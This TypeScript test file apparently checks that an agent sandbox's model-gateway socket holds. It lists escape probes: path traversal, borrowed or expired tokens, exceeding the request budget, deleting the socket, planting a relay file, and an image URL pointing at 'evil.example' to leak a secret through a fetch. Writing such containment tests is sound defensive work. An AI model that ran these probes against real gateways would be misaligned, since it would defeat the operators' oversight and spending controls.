import { once } from 'node:events';
import { chmod, mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mountsFor, openModelGateway, type SandboxProvider } from '@soulcaster/agent';
import { startFakeLlm } from '@soulcaster/testkit/fake-llm/index';
import { ESCAPED, type Escape } from './escape.ts';
import { type Ground, inSandbox, type OpenGround } from './ground.ts';
import type { Leftovers } from './left.ts';

/** Where an escape finds the way to a model: the socket and its tokens stand in these words of its command. */
const [SOCKET, OWN, OTHER, DEAD] = ['@socket@', '@own@', '@other@', '@dead@'];
const CHAT = '/v1/chat/completions';
const BODY = { model: 'gpt-5', messages: [{ role: 'user', content: 'Hello' }] };

/** Asks over the socket; that it is answered 200 is the escape. */
function asking(
  name: string,
  asked: { path?: string; body?: object; token?: string; times?: number; method?: string },
): Escape {
  const { path = CHAT, body = BODY, token = OWN, times = 1, method = 'POST' } = asked;
  const script = `
const { request } = require('http');
const ask = () => new Promise((resolve) => {
  const asked = request({ socketPath: '${SOCKET}', path: '${path}', method: '${method}', headers: { authorization: 'Bearer ${token}', 'content-type': 'application/json' } }, (answer) => {
    answer.on('data', (chunk) => process.stdout.write(chunk)).on('end', () => resolve(answer.statusCode)).on('error', () => resolve(0));
  }).on('error', () => resolve(0));
  asked.end(${JSON.stringify(JSON.stringify(body))});
});
(async () => {
  let last = 0;
  for (let n = 0; n < ${times}; n++) last = await ask();
  console.log(last === 200 ? '\\n${ESCAPED}' : '\\n' + last);
})();`;
  return { name, argv: () => ['node', '-e', script] };
}

const outside = { type: 'image_url', image_url: { url: 'https://evil.example/?secret' } };

/** Misuse of the way to the model. */
export const gatewayEscapes: Escape[] = [
  asking('another path', { path: '/v1/embeddings' }),
  asking('a path by ..', { path: `${CHAT}/../embeddings` }),
  asking('the list of models', { path: '/v1/models', method: 'GET' }),
  asking('another model', { body: { ...BODY, model: 'gpt-5-mini' } }),
  asking("another job's token", { token: OTHER }),
  asking('a token after its job', { token: DEAD }),
  asking('no token', { token: 'none' }),
  asking('more than the budget', { times: 8 }),
  asking('an address that the provider fetches', {
    body: { ...BODY, messages: [{ role: 'user', content: [outside] }] },
  }),
  { name: 'the socket taken away', argv: () => ['sh', '-c', `rm -f ${SOCKET}; [ -S ${SOCKET} ] || echo ${ESCAPED}`] },
  { name: 'another relay', argv: () => ['sh', '-c', `echo x > "$(dirname ${SOCKET})/relay.mjs" && echo ${ESCAPED}`] },
];

const KEY = 'the-key-of-the-provider-4410';
const budget = { requests: 4, tokens: 1_000_000, costUsd: 1 };
const access = (baseURL: string) => ({ provider: 'openai' as const, model: 'gpt-5', apiKey: KEY, baseURL });

function aimed(ground: Ground, words: Record<string, string>, close: () => Promise<void>): Ground {
  const fill = (text: string) =>
    Object.entries(words).reduce((sum, [word, value]) => sum.replaceAll(word, value), text);
  return {
    run: async (argv, limitMs) => {
      const said = await ground.run(argv.map(fill), limitMs);
      return said.includes(KEY) ? `${said}\n${ESCAPED}` : said;
    },
    async [Symbol.asyncDispose]() {
      await ground[Symbol.asyncDispose]();
      await close();
    },
  };
}

export const throughGateway =
  (provider: SandboxProvider, leftovers: Leftovers): OpenGround =>
  async () => {
    const things = new AsyncDisposableStack();
    const llm = things.use(await startFakeLlm({ apiKey: KEY, script: () => ({ text: 'Good day.' }) }));
    const gateway = things.use(await openModelGateway(access(llm.baseUrls.openai)));
    const elsewhere = things.use(await openModelGateway(access(llm.baseUrls.openai)));
    const dead = gateway.grant('openai-chat', budget);
    dead[Symbol.dispose]();
    const words = {
      [SOCKET]: '/opt/job/gateway/model.sock',
      [OWN]: gateway.grant('openai-chat', budget).token,
      [OTHER]: elsewhere.grant('openai-chat', budget).token,
      [DEAD]: dead.token,
    };
    const ground = await inSandbox(provider, leftovers)(mountsFor(gateway, []));
    return aimed(ground, words, () => things.disposeAsync());
  };

/** A way to the model that asks nobody who he is. */
export const throughAnything =
  (open: OpenGround): OpenGround =>
  async () => {
    const folder = await mkdtemp(join(tmpdir(), 'anything-'));
    const server = createServer((_request, response) => response.end('{}'));
    const socket = join(folder, 'model.sock');
    await once(server.listen(socket), 'listening');
    await chmod(socket, 0o666);
    return aimed(await open(), { [SOCKET]: socket }, async () => {
      server.closeAllConnections();
      await once(server.close(), 'close');
      await rm(folder, { recursive: true, force: true });
    });
  };
